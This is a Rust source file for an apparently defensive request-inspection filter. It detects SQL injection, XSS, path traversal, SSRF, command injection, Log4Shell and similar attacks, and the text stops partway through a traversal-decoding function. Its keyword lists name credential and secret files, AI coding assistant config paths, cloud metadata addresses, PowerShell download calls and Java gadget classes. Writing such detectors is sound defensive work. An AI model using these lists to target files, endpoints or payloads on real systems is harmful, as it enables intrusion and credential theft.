//! Attack classes on request values. SQL injection and XSS have tokenizers of their own
//! (`sqli`, `xss`); the others are keyword rules with a context check each (a word boundary,
//! a call, a URL host) matched in one Aho-Corasick pass, plus structural checks for shell
//! syntax, traversal sequences, template expressions, LDAP filters and nested Log4j lookups.
//! Every rule sees the normalized value (decoded, lower case).

use super::{bytes, sqli, xss, Part, Site};
use aho_corasick::automaton::Automaton;
use aho_corasick::{dfa::DFA, Anchored, Input};

/// Every attack class the detector reports.
pub const ATTACK_CLASSES: &[&str] = &[
    "sqli",
    "xss",
    "path_traversal",
    "rfi",
    "ssrf",
    "command_injection",
    "ssti",
    "nosqli",
    "ldap_injection",
    "xpath_injection",
    "xxe",
    "log4shell",
    "crlf_injection",
    "java_injection",
    "php_injection",
    "code_injection",
    "ssi_injection",
    "protocol",
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Ctx {
    /// anywhere
    Any,
    /// not preceded by a letter, digit or `_`
    WordStart,
    /// word start, then optional spaces and `(`
    Call,
}

struct Rule {
    pattern: &'static str,
    /// empty for signal words, which only decide which structural checks run
    class: &'static str,
    ctx: Ctx,
    reason: &'static str,
    severity: u8,
    signal: u32,
}

const fn rule(pattern: &'static str, class: &'static str, ctx: Ctx, reason: &'static str, severity: u8) -> Rule {
    Rule { pattern, class, ctx, reason, severity, signal: 0 }
}

const fn signal(pattern: &'static str, signal: u32) -> Rule {
    Rule { pattern, class: "", ctx: Ctx::WordStart, reason: "", severity: 0, signal }
}

/// Words that make a check worth running on a value without the characters it needs.
const SIGNAL_SQL: u32 = 1;
const SIGNAL_XSS: u32 = 2;
const SIGNAL_BATCH: u32 = 4;
const SIGNAL_NOSQL: u32 = 8;
/// Words that start an SQL fragment (`case when`, a `::` cast): only the fragment checks run.
const SIGNAL_SQL_FRAGMENT: u32 = 16;

const SIGNALS: [Rule; 47] = [
    signal("union", SIGNAL_SQL),
    signal("case when", SIGNAL_SQL_FRAGMENT),
    signal("::", SIGNAL_SQL_FRAGMENT),
    signal("lo_", SIGNAL_SQL_FRAGMENT),
    signal("like", SIGNAL_SQL_FRAGMENT),
    signal("select", SIGNAL_SQL),
    signal("order", SIGNAL_SQL),
    signal("group", SIGNAL_SQL),
    signal("having", SIGNAL_SQL),
    signal("waitfor", SIGNAL_SQL),
    signal("exec", SIGNAL_SQL),
    signal("drop", SIGNAL_SQL),
    signal("create", SIGNAL_SQL),
    signal("alter", SIGNAL_SQL),
    signal("truncate", SIGNAL_SQL),
    signal("insert", SIGNAL_SQL),
    signal("delete", SIGNAL_SQL),
    signal("update", SIGNAL_SQL),
    signal("declare", SIGNAL_SQL),
    signal("shutdown", SIGNAL_SQL),
    signal("into", SIGNAL_SQL),
    signal("limit", SIGNAL_SQL),
    signal("procedure", SIGNAL_SQL),
    signal("javascript", SIGNAL_XSS),
    signal("vbscript", SIGNAL_XSS),
    signal("livescript", SIGNAL_XSS),
    signal("document", SIGNAL_XSS),
    signal("window", SIGNAL_XSS),
    signal("localstorage", SIGNAL_XSS),
    signal("sessionstorage", SIGNAL_XSS),
    signal("xmlhttprequest", SIGNAL_XSS),
    signal("globalthis", SIGNAL_XSS),
    signal("innerhtml", SIGNAL_XSS),
    signal("outerhtml", SIGNAL_XSS),
    signal("fromcharcode", SIGNAL_XSS),
    signal("location", SIGNAL_XSS),
    signal("srcdoc", SIGNAL_XSS),
    signal("formaction", SIGNAL_XSS),
    signal("xlink", SIGNAL_XSS),
    signal("expression", SIGNAL_XSS),
    signal("binding", SIGNAL_XSS),
    signal("data", SIGNAL_XSS),
    signal("if", SIGNAL_BATCH),
    signal("for", SIGNAL_BATCH),
    signal("db", SIGNAL_NOSQL),
    signal("return", SIGNAL_NOSQL),
    signal("this", SIGNAL_NOSQL),
];

/// Bytes whose presence decides which checks run (one pass over the value).
mod chars {
    pub const QUOTE: u32 = 1; // ' " `
    pub const PAREN: u32 = 2; // ( )
    pub const COMPARE: u32 = 4; // = < >
    pub const ANGLE: u32 = 8; // < >
    pub const SHELL: u32 = 16; // ; | & $ { } \n \r
    pub const SLASH: u32 = 32; // / \\
    pub const COLON: u32 = 64;
    pub const BRACKET: u32 = 128; // [ ]
    pub const DOLLAR: u32 = 256;
    pub const BRACE: u32 = 512;
    pub const STAR: u32 = 1024;
    pub const NEWLINE: u32 = 2048;
    pub const PERCENT: u32 = 4096; // % (after decoding: literal percent, e.g. `<%`)
    pub const AMP: u32 = 8192;
    pub const COMMENT: u32 = 16384; // # -- * ! (SQL comments and operators)
    pub const QUESTION: u32 = 32768;
    pub const SPACE: u32 = 65536;
    pub const PLUS: u32 = 131072;
    pub const PIPE: u32 = 262144;
    pub const DOT: u32 = 524288;
    pub const SEMI: u32 = 1048576;
    pub const BACKTICK: u32 = 2097152;
    pub const HEX: u32 = 4194304; // a `0x` literal
    pub const AT: u32 = 8388608; // @ (SQL variables, and every email address)
    pub const CONTROL: u32 = 16777216; // other control bytes, and bytes past ASCII
}

fn char_mask(b: &[u8]) -> u32 {
    let mut mask = 0;
    let mut prev = 0;
    for &c in b {
        mask |= byte_class(c) | pair_class(prev, c);
        prev = c;
    }
    mask
}

/// The classes one byte sets, as a table: `char_mask` and `keywords_and_mask` read every byte of
/// every value through it.
static BYTE_CLASSES: [u32; 256] = {
    let mut table = [0; 256];
    let mut c = 0;
    while c < 256 {
        table[c] = single_byte_class(c as u8);
        c += 1;
    }
    table
};

fn byte_class(c: u8) -> u32 {
    BYTE_CLASSES[usize::from(c)]
}

/// The classes two bytes set together: `--` (a lone dash is in SKUs, dates and UUIDs; SQL needs
/// two for a comment) and a `0x` literal.
fn pair_class(prev: u8, c: u8) -> u32 {
    use chars::*;
    (u32::from(prev == b'-' && c == b'-') * COMMENT) | (u32::from(prev == b'0' && c == b'x') * HEX)
}

const fn single_byte_class(c: u8) -> u32 {
    use chars::*;
    match c {
        b'\'' | b'"' => QUOTE,
        b'`' => QUOTE | BACKTICK | SHELL,
        b'(' | b')' => PAREN,
        b'=' => COMPARE,
        b'<' | b'>' => COMPARE | ANGLE,
        b';' => SHELL | SEMI,
        b'|' => SHELL | PIPE,
        b'&' => SHELL | AMP,
        b'$' => SHELL | DOLLAR,
        b'{' | b'}' => SHELL | BRACE,
        b'\n' | b'\r' => SHELL | NEWLINE,
        b'/' | b'\\' => SLASH,
        b':' => COLON,
        b'[' | b']' => BRACKET,
        b'*' => STAR | COMMENT,
        b'%' => PERCENT,
        b'#' | b'!' => COMMENT,
        b'@' => AT,
        b'?' => QUESTION,
        b' ' | b'\t' => SPACE,
        b'+' => PLUS,
        b'.' => DOT,
        0..=0x1f | 0x80..=0xff => CONTROL,
        _ => 0,
    }
}

macro_rules! rules {
    ($class:literal, $ctx:ident, $reason:literal, $severity:literal: $($p:literal),* $(,)?) => {
        [$(rule($p, $class, Ctx::$ctx, $reason, $severity)),*]
    };
}

/// System catalogs and procedures whose names give an SQL injection away.
const SQL_NAMES: [Rule; 48] = rules!("sqli", WordStart, "system catalog or procedure name", 4:
    "information_schema", "sysobjects", "syscolumns", "sysdatabases", "sysusers", "msysobjects", "msysaccessobjects",
    "pg_catalog", "pg_shadow", "pg_user", "pg_database", "sqlite_master", "sqlite_schema", "all_tables",
    "user_tables", "all_tab_columns", "user_objects", "mysql.user", "mysql.db", "master..sysdatabases",
    "sys.objects", "sys.tables", "sys.databases", "v$version", "tempdb", "msdb", "northwind", "xp_cmdshell",
    "sp_executesql", "sp_oacreate", "sp_password", "xp_regread", "xp_dirtree", "sp_makewebtask", "schema_name",
    "pg_sleep", "load_file", "dbms_pipe", "dbms_lock", "utl_http", "utl_inaddr",
    // MySQL and SQL Server system variables, as fingerprinting probes read them
    "@@version", "@@datadir", "@@hostname", "@@basedir", "@@servername", "@@tmpdir", "@@spid",
);

const JAVA: [Rule; 59] = rules!("java_injection", WordStart, "Java class or gadget name", 4:
    "org.apache.commons", "java.runtime", "java.processbuilder", "org.omg.corba", "java.lang", "javax.script",
    "java.io",
    "java.lang.", "java.io.", "java.net.", "java.util.", "java.nio.", "java.beans.", "java.rmi.", "java.security.",
    "javax.", "sun.misc.", "sun.reflect.", "sun.rmi.", "com.sun.", "org.apache.commons.collections",
    "org.apache.xalan", "org.apache.commons.beanutils", "org.apache.naming", "org.apache.tomcat",
    "org.apache.catalina", "org.apache.struts", "org.apache.velocity", "org.apache.log4j", "org.codehaus.groovy",
    "org.springframework.", "org.omg.", "org.mozilla.javascript", "com.opensymphony.xwork2", "org.hibernate.",
    "org.jboss.", "org.python.", "bsh.interpreter", "clojure.", "groovy.lang", "jdk.nashorn", "ognl.",
    "runtime.getruntime", "getruntime()", "processbuilder", "processimpl", "java.lang.runtime", "classloader",
    "class.forname", ".getclass()", "xwork.methodaccessor", "#_memberaccess", "@ognl", "invokertransformer",
    "instantiatefactory", "instantiatetransformer", "chainedtransformer", "whileclosure", "ro0ab",
);

const PHP_CALLS: [Rule; 65] = rules!("php_injection", Call, "high-risk PHP function call", 4:
    "print_r", "substr", "unpack", "file_exists", "assert_options", "get_defined_functions", "gzdecode",
    "var_dump", "var_export", "str_replace", "ini_get",
    "system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "eval", "assert",
    "create_function", "call_user_func", "call_user_func_array", "base64_decode", "gzinflate", "gzuncompress",
    "str_rot13", "file_get_contents", "file_put_contents", "fopen", "fwrite", "fputs", "fputcsv", "readfile",
    "include", "require", "include_once", "require_once", "phpinfo", "preg_replace", "unserialize", "chr",
    "intval", "fsockopen", "pfsockopen", "move_uploaded_file", "curl_exec", "ini_set", "getenv", "putenv",
    "show_source", "highlight_file", "php_uname", "array_map", "usort", "uasort", "array_filter", "ob_start",
    "bzdecompress", "curl_init", "strrev", "is_array", "strip_tags", "filegroup", "zlib_decode",
);

const PHP_WORDS: [Rule; 44] = rules!("php_injection", WordStart, "PHP function, variable or stream", 4:
    "posix_getpwuid", "posix_getegid", "posix_geteuid", "posix_getgid", "posix_getuid", "posix_kill", "posix_mkfifo",
    "posix_setuid", "posix_uname", "posix_", "pcntl_", "phpinfo", "shell_exec", "proc_open", "base64_decode",
    "file_get_contents", "file_put_contents", "call_user_func", "create_function", "get_defined_vars",
    "$_get", "$_post", "$_server", "$_cookie", "$_request", "$_files", "$_env", "$_session", "$globals",
    "$http_raw_post_data", "$http_get_vars", "$http_post_vars", "php://", "phar://", "zlib://", "glob://",
    "expect://", "compress.zlib://", "compress.bzip2://", "ogg://", "rar://", "ssh2.shell://", "ssh2.exec://",
    "<?php",
);

const PHP_CONFIG: [Rule; 14] = rules!("php_injection", WordStart, "PHP configuration directive", 3:
    "allow_url_include", "allow_url_fopen", "auto_prepend_file", "auto_append_file", "disable_functions",
    "open_basedir", "safe_mode", "register_globals", "magic_quotes_gpc", "suhosin.", "enable_dl",
    "disable_classes", "display_errors", "zend_extension",
);

const FILES: [Rule; 68] = rules!("path_traversal", Any, "access to a system or secret file", 3:
    "access_log", "access.log", "error_log", "error.log", "/var/apache",
    "etc/subuid", "etc/subgid", "proc/interrupts", "sys/class/", ".docker/secrets", "debug.log", "backup.sql",
    "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "etc/motd", "etc/sudoers", "etc/crontab",
    "etc/hostname", "etc/resolv.conf", "etc/fstab", "etc/profile", "etc/apache", "etc/httpd", "etc/nginx",
    "etc/mysql", "etc/php", "etc/ssh", "proc/self/", "proc/version", "proc/cpuinfo", "proc/net/", "proc/sched_debug",
    "boot.ini", "win.ini", "system.ini", "windows/system32", "winnt/system32", "windows\\system32", "inetpub",
    "/.ssh/", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", ".bash_history", ".bashrc", ".htpasswd", ".htaccess",
    "web.config", "/.git/", "/.svn/", "/.hg/", "wp-config.php", "/var/log/", "php.ini", "my.cnf", "httpd.conf",
    ".aws/credentials", ".docker/config.json", ".kube/config", ".npmrc", ".pgpass", "/.env", "localsettings.php",
    "config.inc.php",
);

const AGENT_FILES: [Rule; 30] = rules!("path_traversal", Any, "access to an AI coding assistant's files", 3:
    "/.aiignore", "/.cursorignore", "/.zed/", "/.rovodev/", "/.a0proj/", "/.plandex/", "/.fabric/", "/.n8n/",
    "/errors.log", "/sys/class",
    "/.junie/", "/.roo/", "/.kiro/", "/.amazonq/", "/.cline", "/.github/copilot", "/.vscode/mcp", "/.mcp.json",
    "/.opencode/", "/.codex/", "/.claude/", "/.cursor/", "/.aider", "/.windsurf", "/.continue/", "/.gemini/",
    "/.copilot/", "/claude.md", "/agents.md", "/.cursorrules",
);

const SSRF_HOSTS: [Rule; 23] = rules!("ssrf", Any, "internal or metadata address", 4:
    "169.254.169.254", "metadata.google.internal", "100.100.100.200", "192.0.0.192", "fd00:ec2::254",
    "host.docker.internal", "host.containers.internal", "gateway.docker.internal", "kubernetes.default",
    "ip6-localhost", "ip6-loopback", "instance-data", "/latest/meta-data", "/latest/user-data",
    "/latest/api/token", "/computemetadata/v1", "/metadata/instance", "/metadata/v1", "metadata.azure.com",
    "[::ffff:127", "[::1]", "[0:0:0:0:0:0:0:1]", "0x7f000001",
);

const SSRF_SCHEMES: [Rule; 9] = rules!("ssrf", WordStart, "unusual URL scheme", 4:
    "gopher://", "dict://", "tftp://", "ldap://", "jar:", "netdoc:", "file://", "data://", "data:text/plain",
);

const CODE: [Rule; 43] = rules!("code_injection", Any, "server-side script injection", 4:
    "eval(string.fromcharcode", "console[", "require.main", "constructor._load", "require[", "xyqktkrfrlvoqyqk", "[constructor][prototype]",
    "constructor][prototype", "while(", "process.mainmodule.require",
    "_$$nd_func$$_", "__js_function", "function(){", "function() {", "new function(", "new function (",
    "this.constructor", ".constructor.constructor", "module.exports", "console.", "process[",
    "__proto__", "constructor[prototype]", "constructor.prototype", "child_process", "process.mainmodule",
    "process.binding", "global.process", "require('", "require(\"", "require(`", "execsync(", "spawnsync(",
    ".spawn(", "for(;;)", "kernel.exec",
    "kernel.system", "io.popen", "%x(", "open3.", "process.env", "runtime.exec", "module.constructor",
);

const NOSQL: [Rule; 16] = rules!("nosqli", Any, "NoSQL operator or script", 4:
    "$where", "[$ne]", "[$gt]", "[$lt]", "[$regex]", "[$nin]", "[$in]", "[$exists]", "{\"$ne\"", "{\"$gt\"",
    "{\"$regex\"", "db.getcollection", "this.password", "this.username", ";return true", "return(true)",
);

const XPATH: [Rule; 13] = rules!("xpath_injection", Any, "XPath axis or function", 4:
    "count(/", "child::", "parent::", "ancestor::", "descendant::", "following-sibling::", "preceding-sibling::",
    "string-length(", "name(/", "name()", "//user[", "//*[", "text()=",
);

const XXE: [Rule; 8] = rules!("xxe", Any, "XML entity, inclusion or transformation", 4:
    "!entity", "xmlns:xi=", "<xi:include", "<!doctype", "<xsl:stylesheet", "<xsl:transform", "xmlns:xsl=", "<![cdata[",
);

const SSI: [Rule; 8] = rules!("ssi_injection", Any, "server-side include", 4:
    "<!--#exec", "<!--#include", "<!--#echo", "<!--#config", "<!--#printenv", "<!--#set", "<esi:", "<!--esi",
);

const SHELL_WORDS: [Rule; 21] = rules!("command_injection", Any, "shell program or syntax", 4:
    "/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/busybox", "/usr/bin/", "cmd.exe", "cmd /c", "cmd /k",
    "%comspec%", "powershell", "pwsh ", "invoke-expression", "invoke-webrequest", "net.webclient",
    "downloadstring(", "-encodedcommand", "start-process", "invoke-command", "${ifs}", "$ifs$",
);

const LOG4J: [Rule; 2] = rules!("log4shell", Any, "JNDI lookup", 4: "${jndi:", "jndi:");

/// All keyword rules, in one automaton.
pub struct Rules {
    automaton: Option<DFA>,
    rules: Vec<&'static Rule>,
}

impl Rules {
    pub fn new() -> Self {
        let groups: [&'static [Rule]; 18] = [
            &JAVA,
            &PHP_CALLS,
            &PHP_WORDS,
            &PHP_CONFIG,
            &FILES,
            &AGENT_FILES,
            &SSRF_HOSTS,
            &SSRF_SCHEMES,
            &CODE,
            &NOSQL,
            &XPATH,
            &XXE,
            &SSI,
            &SHELL_WORDS,
            &LOG4J,
            &SIGNALS,
            &SQL_NAMES,
            &[],
        ];
        let rules: Vec<&'static Rule> = groups.iter().flat_map(|g| g.iter()).collect();
        // a DFA: every request value goes through this automaton, and the NFA the crate picks
        // for this many patterns took 48 instructions a byte in its overlapping search against
        // 20 here (-10% on the Envoy benchmark's 1 KiB request). It costs 1.9 MB per worker
        // against 0.2 MB, small beside the event buffers (17 MiB by default), and about 10 ms
        // more to build when the filter is configured.
        // The DFA itself rather than the `AhoCorasick` wrapper, so that `any_keyword_and_mask` can step it
        // byte by byte (see there).
        let automaton = DFA::builder().build(rules.iter().map(|r| r.pattern)).ok();
        Rules { automaton, rules }
    }

    /// Scans a normalized value.
    pub fn scan(&self, site: Site<'_>, v: &str, emit: &mut dyn FnMut(&'static str, &'static str, u8)) {
        use chars::*;
        if v.len() < 2 {
            return;
        }
        let mut seen: u32 = 0;
        let mut once = |class: &'static str, reason: &'static str, severity: u8| {
            let bit = class_bit(class);
            if seen & bit == 0 {
                seen |= bit;
                emit(class, reason, severity);
            }
        };
        let b = v.as_bytes();
        let (signals, mask) = self.keywords_and_mask(b, &mut once);
        let any = |bits: u32| mask & bits != 0;
        if any(QUOTE | PAREN | COMPARE | SEMI | COMMENT | PIPE | AMP) || signals & SIGNAL_SQL != 0 {
            if let Some(reason) = sqli::detect_with(v, signals & (SIGNAL_SQL | SIGNAL_SQL_FRAGMENT) != 0) {
                once("sqli", reason, 4);
            }
        } else if signals & SIGNAL_SQL_FRAGMENT != 0 {
            if let Some(reason) = sqli::fragment(b, true) {
                once("sqli", reason, 4);
            }
        }
        // a colon or plus alone (timestamps, phone numbers) needs more to be script: a scheme
        // split by blanks or control bytes the browser drops (`ja\nvascript:`), or UTF-7 markup
        let split_scheme = any(COLON) && any(SPACE | NEWLINE | CONTROL);
        let utf7 = || any(PLUS) && bytes::find(b, b"+ad").is_some();
        if any(ANGLE | PAREN | BACKTICK | COMPARE | BRACKET) || signals & SIGNAL_XSS != 0 || split_scheme || utf7() {
            if let Some(reason) = xss::detect(v) {
                once("xss", reason, 3);
            }
        }
        if any(SLASH | HEX) {
            if let Some(reason) = traversal(b) {
                once("path_traversal", reason, 3);
            }
        }
        if any(DOT | PERCENT | QUESTION | HEX) {
            if let Some(reason) = encoded_traversal(b) {
                once("path_traversal", reason, 3);
            }
        }
        if any(BRACE | PERCENT | BRACKET) {
            if let Some(reason) = template(b) {
                once("ssti", reason, 4);
            }
        }
        if any(PAREN) || (any(STAR) && any(PIPE | AMP)) {
            if let Some(reason) = ldap(b, mask) {
                once("ldap_injection", reason, 3);
            }
        }
        if any(NEWLINE) {
            if let Some(reason) = crlf(b, site.part == Part::Header) {
                once("crlf_injection", reason, 3);
            }
        }
        if any(DOLLAR) && any(BRACE) {
            if let Some(reason) = log4j(v) {
                once("log4shell", reason, 4);
            }
        }
        if any(DOLLAR | PIPE | PAREN | QUOTE) || signals & SIGNAL_NOSQL != 0 {
            if let Some(reason) = nosql(b, mask) {
                once("nosqli", reason, 4);
            }
        }
        if any(AMP | PERCENT) && any(SEMI) {
            if let Some(reason) = entity_reference(b) {
                once("xxe", reason, 3);
            }
        }
        if any(QUESTION | BRACKET | BRACE | COLON | DOLLAR) {
            if let Some(reason) = php_structures(b, mask) {
                once("php_injection", reason, 4);
            }
        }
        if any(COMPARE) {
            if let Some(reason) = php_ini_setting(b) {
                once("php_injection", reason, 3);
            }
        }
        if any(PAREN) {
            if let Some(reason) = php_expression_call(b) {
                once("php_injection", reason, 4);
            }
        }
        if any(COLON | SLASH | QUESTION) {
            if let Some((class, reason)) = url_value(v, site.key) {
                once(class, reason, 4);
            }
        }
        let escaped_break = || any(SLASH) && (bytes::find(b, b"\\n").is_some() || bytes::find(b, b"\\r").is_some());
        if any(SHELL | ANGLE | BRACKET) || signals & SIGNAL_BATCH != 0 || escaped_break() {
            if let Some(reason) = shell(v, signals & SIGNAL_BATCH != 0) {
                once("command_injection", reason, 4);
            }
        } else if let Some(reason) = shell_start(v) {
            once("command_injection", reason, 4);
        }
        if site.key == "filename" {
            if let Some((class, reason)) = upload_name(v) {
                once(class, reason, 4);
            }
        }
    }

    /// A parameter or JSON key name: prototype pollution and NoSQL operators live there.
    pub fn scan_name(&self, name: &str, emit: &mut dyn FnMut(&'static str, &'static str, u8)) {
        let n = name.to_ascii_lowercase();
        if n.contains("__proto__") || n.contains("constructor[prototype]") || n.contains("constructor.prototype") {
            emit("code_injection", "prototype pollution in a parameter name", 4);
        }
        const OPERATORS: &[&str] = &[
            "$ne",
            "$eq",
            "$gt",
            "$gte",
            "$lt",
            "$lte",
            "$in",
            "$nin",
            "$regex",
            "$where",
            "$exists",
            "$expr",
            "$or",
            "$and",
            "$not",
            "$nor",
            "$elemmatch",
            "$function",
            "$accumulator",
            "$text",
            "$size",
            "$all",
            "$type",
        ];
        let op = n.rsplit(['[', '.']).next().unwrap_or(&n).trim_end_matches(']');
        if OPERATORS.contains(&op) {
            emit("nosqli", "NoSQL query operator in a name", 4);
        }
    }

    /// The request path: traversal and restricted files (keywords), nothing that needs a value.
    pub fn scan_path(&self, path: &str, emit: &mut dyn FnMut(&'static str, &'static str, u8)) {
        let b = path.as_bytes();
        let mut seen: u32 = 0;
        if let Some(reason) = traversal(b) {
            emit("path_traversal", reason, 3);
            seen |= class_bit("path_traversal");
        }
        let Some(automaton) = self.automaton.as_ref() else { return };
        for m in overlapping(automaton, b) {
            let Some(rule) = self.rules.get(m.pattern().as_usize()) else { continue };
            let path_class =
                matches!(rule.class, "path_traversal" | "php_injection" | "java_injection" | "command_injection");
            if !path_class || !context_ok(b, m.start(), m.end(), rule.ctx) {
                continue;
            }
            let bit = class_bit(rule.class);
            if seen & bit == 0 {
                seen |= bit;
                emit(rule.class, rule.reason, rule.severity);
            }
        }
    }

    /// Keyword rules and the value's `char_mask`; returns the signal words seen and the mask.
    fn keywords_and_mask(&self, b: &[u8], once: &mut dyn FnMut(&'static str, &'static str, u8)) -> (u32, u32) {
        let Some(automaton) = self.automaton.as_ref() else { return (u32::MAX, char_mask(b)) };
        // most values hold no keyword at all, and asking that first is cheaper than setting up
        // the overlapping search (which finds nothing where this finds nothing)
        let (any, mask) = any_keyword_and_mask(automaton, b);
        if !any {
            return (0, mask);
        }
        let mut signals = 0;
        for m in overlapping(automaton, b) {
            let Some(rule) = self.rules.get(m.pattern().as_usize()) else { continue };
            if !context_ok(b, m.start(), m.end(), rule.ctx) {
                continue;
            }
            if rule.signal != 0 {
                signals |= rule.signal;
            } else if extra_ok(rule, b, m.start(), m.end()) {
                once(rule.class, rule.reason, rule.severity);
            }
        }
        (signals, mask)
    }
}

/// Whether any keyword occurs in `b`, and its `char_mask`, in one pass. A plain loop over the
/// DFA's transitions: the crate's `is_match` sets up a search (input, prefilter, match state)
/// that cost about 150 instructions per value before the first byte, and most values are short
/// and hold no keyword.
fn any_keyword_and_mask(dfa: &DFA, b: &[u8]) -> (bool, u32) {
    let Ok(mut state) = dfa.start_state(Anchored::No) else { return (true, char_mask(b)) };
    let mut mask = 0;
    let mut prev = 0;
    for (i, &c) in b.iter().enumerate() {
        mask |= byte_class(c) | pair_class(prev, c);
        prev = c;
        state = dfa.next_state(Anchored::No, state, c);
        if dfa.is_match(state) {
            // the rest of the mask; `b[i..]` starts at `c` again, for the pair it may begin
            return (true, mask | char_mask(b.get(i..).unwrap_or_default()));
        }
    }
    (false, mask)
}

/// Every keyword match in `b`, overlapping ones included.
fn overlapping<'a, 'h>(dfa: &'a DFA, b: &'h [u8]) -> impl Iterator<Item = aho_corasick::Match> + use<'a, 'h> {
    dfa.try_find_overlapping_iter(Input::new(b)).into_iter().flatten()
}

impl Default for Rules {
    fn default() -> Self {
        Rules::new()
    }
}

/// A class's bit, for reporting each class once per value.
fn class_bit(class: &str) -> u32 {
    ATTACK_CLASSES.iter().position(|c| *c == class).map_or(0, |i| 1u32 << i)
}

fn word_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

fn context_ok(b: &[u8], start: usize, end: usize, ctx: Ctx) -> bool {
    let starts_word = start == 0 || !word_byte(b[start - 1]) || !word_byte(b[start]);
    match ctx {
        Ctx::Any => true,
        Ctx::WordStart => starts_word,
        Ctx::Call => {
            // `FOOcall_user_func()`: a long name glued to junk, called with nothing
            let glued = !starts_word && end - start >= 8 && b[end..].starts_with(b"()");
            if !(starts_word || glued) || (end < b.len() && word_byte(b[end])) {
                return false;
            }
            let mut i = end;
            // spaces, block comments and line-comment-newline pairs before the `(`
            loop {
                while i < b.len() && b[i].is_ascii_whitespace() {
                    i += 1;
                }
                if b[i..].starts_with(b"/*") {
                    match b[i + 2..b.len().min(i + 258)].windows(2).position(|w| w == b"*/") {
                        Some(p) => i += 2 + p + 2,
                        None => return false,
                    }
                } else if b[i..].starts_with(b"//") || b[i..].starts_with(b"#") {
                    match b[i..b.len().min(i + 256)].iter().position(|&c| c == b'\n') {
                        Some(p) => i += p + 1,
                        None => return false,
                    }
                } else if b.get(i) == Some(&b'"') || b.get(i) == Some(&b'\'') {
                    // ("system")("id"): a quoted name closed right before the call
                    i += 1;
                } else {
                    break;
                }
            }
            b.get(i) == Some(&b'(')
        }
    }
}

/// Checks some keywords need beyond their context.
fn extra_ok(rule: &Rule, b: &[u8], start: usize, end: usize) -> bool {
    match rule.pattern {
        // a `<!doctype` alone is ordinary HTML; with a SYSTEM or PUBLIC identifier or an
        // internal subset it is an entity declaration
        // CDATA wrapping markup or quotes smuggles them past XML-aware filters
        "<![cdata[" => b[end..].iter().any(|c| matches!(c, b'<' | b'\'' | b'"')),
        "<!doctype" => {
            let rest = &b[end..];
            bytes::find(rest, b"system").is_some() || bytes::find(rest, b"public").is_some() || rest.contains(&b'[')
        }
        "jndi:" => {
            b[start..].starts_with(b"jndi:ldap")
                || b[start..].starts_with(b"jndi:rmi")
                || b[start..].starts_with(b"jndi:dns")
        }
        "ro0ab" => {
            end + 4 <= b.len() && b[end..].iter().take(4).all(|c| c.is_ascii_alphanumeric() || *c == b'+' || *c == b'/')
        }
        // a PHP call: `chr(65)`, `system('id')`, `exec /**/ (x)`; prose puts a space before its
        // parenthesis (`the system (v2)`), so a spaced call needs a code-like argument
        _ if rule.class == "php_injection" && rule.ctx == Ctx::Call => {
            let Some(open) = b[end..b.len().min(end + 64)].iter().position(|&c| c == b'(') else { return false };
            let gap = &b[end..end + open];
            let arg = b.get(end + open + 1).copied();
            let commented =
                bytes::find(gap, b"/*").is_some() || gap.contains(&b'#') || bytes::find(gap, b"//").is_some();
            let quoted_name = gap.contains(&b'"') || gap.contains(&b'\'');
            // tabs, line breaks or runs of spaces before the parenthesis are code, not prose
            let code_gap = gap.iter().any(|c| matches!(c, b'\t' | b'\n' | b'\r')) || gap.len() > 1;
            // `substr()`, `print_r( )`, `exec /**/ ()`, `file_exists (\n\n)`: a call with nothing inside
            let inside = &b[end + open + 1..];
            let blank = inside.iter().take_while(|c| c.is_ascii_whitespace()).count();
            let empty_call = inside.get(blank) == Some(&b')');
            let code_inside = inside[..blank].iter().any(|c| matches!(c, b'\t' | b'\n' | b'\r'));
            match arg {
                _ if empty_call => {
                    (gap.is_empty() && end - start >= 5) || commented || code_gap || (code_inside && gap.len() <= 1)
                }
                None | Some(b')') => false,
                _ if gap.is_empty() || commented || quoted_name || code_gap => true,
                Some(c) => matches!(c, b'"' | b'\'' | b'$' | b'`'),
            }
        }
        "process.env" | "name()" | "jar:" => start == 0 || !word_byte(b[start - 1]),
        _ if rule.class == "sqli" => end >= b.len() || !word_byte(b[end]),
        // `while(!0);`, `while(Infinity);`: an endless loop, not the word in prose
        // `while((true)))` too: the condition's parentheses doubled
        "while(" => {
            let body = &b[end..b.len().min(end + 16)];
            body.iter().position(|&c| c == b')').is_some_and(|close| {
                let after = body.get(close + 1).copied();
                let doubled = body.first() == Some(&b'(') && after == Some(b')');
                close <= 12 && (matches!(after, None | Some(b';' | b'{')) || doubled)
            })
        }
        // `${jndi:ldap://...}` is Log4Shell, reported as such
        "ldap://" | "dict://" | "file://" => !b[..start].ends_with(b"jndi:"),
        _ => true,
    }
}

/// `../`, `..\`, `.../`, `....//` and a leading `/..`; also with the backslashes some
/// scanners put before dots and slashes (`\.\./`).
fn traversal(b: &[u8]) -> Option<&'static str> {
    if let Some(reason) = traversal_plain(b) {
        return Some(reason);
    }
    if b.contains(&b'\\') {
        let unescaped: Vec<u8> = b.iter().copied().filter(|&c| c != b'\\').collect();
        if bytes::find(&unescaped, b"../").is_some() {
            return Some("directory traversal sequence");
        }
    }
    // `0x2e0x2e0x2f`, `..0x5c..0x5c`: bytes written as hex literals
    if [&b"0x2e"[..], b"0x2f", b"0x5c"].iter().any(|h| bytes::find(b, h).is_some()) {
        let text = String::from_utf8_lossy(b).replace("0x2e", ".").replace("0x2f", "/").replace("0x5c", "/");
        if traversal_plain(text.as_bytes()).is_some() {
            return Some("directory traversal sequence (hex literals)");
        }
    }
    None
}

/// A system file behind separators and dots no decoder turned into `/` and `.`, as traversal
/// fuzzers write them (`%c0%ae%c0%ae%c1%pc...etc%c1%pcpasswd`, `..%%35%%63boot.ini`): what comes
/// before the file name is a run of punctuation, percent signs, hex digits and short letter runs.
fn encoded_traversal(b: &[u8]) -> Option<&'static str> {
    // a first letter that is a hex digit can be eaten by a decoding round (`%f` + `boot`), so
    // `oot.ini` and `esktop.ini`
    const TARGETS: &[&[u8]] = &[b"passwd", b"oot.ini", b"win.ini", b"esktop.ini", b"system.ini", b"{file}"];
    // the escapes fuzzers use: hex digits, `%u`, `0x`, and the broken IIS forms (`%c1%pc`, `%bg%qf`)
    let encoding_run = |run: &[u8]| run.len() <= 3;
    let junk = |part: &[u8]| {
